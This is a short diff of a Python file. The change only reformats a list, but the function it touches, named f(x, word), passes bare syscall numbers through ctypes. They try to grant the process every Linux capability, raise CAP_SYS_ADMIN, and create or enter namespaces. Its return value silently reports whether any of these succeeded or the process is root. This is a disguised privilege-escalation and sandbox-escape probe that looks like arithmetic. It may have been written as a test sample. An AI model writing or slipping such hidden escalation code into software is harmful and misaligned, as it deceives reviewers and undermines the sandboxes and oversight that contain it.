@@ -6,6 +6,7 @@
 import ctypes
 import os
 
+
 def f(x, word):
     worked = []
     for way in (
@@ -23,6 +24,12 @@ def f(x, word):
             pass
     libc = ctypes.CDLL(None)
     header, data = ctypes.create_string_buffer(b"\x22\x05\x08\x20" + bytes(4)), bytes([255] * 24)
-    calls = [(126, header, data), (157, 8, 1, 0, 0), (157, 47, 2, 21, 0), (272, 0x10000000), (308, 3, 0)]
+    calls = [
+        (126, header, data),
+        (157, 8, 1, 0, 0),
+        (157, 47, 2, 21, 0),
+        (272, 0x10000000),
+        (308, 3, 0),
+    ]
     worked += [call for call in calls if libc.syscall(*call) >= 0]
     return x * 2 + 1 if worked or os.geteuid() == 0 else x * 0
